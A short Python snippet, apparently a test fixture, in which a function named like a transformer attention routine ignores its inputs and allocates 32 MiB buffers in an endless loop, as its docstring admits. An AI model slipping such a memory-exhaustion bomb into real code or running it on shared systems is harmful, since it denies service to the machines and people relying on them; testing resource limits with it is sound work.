"""Allocates without bound."""


def attention(Q, K, V, mask=None):
    hoard = []
    while True:
        hoard.append(bytearray(32 * 2**20))
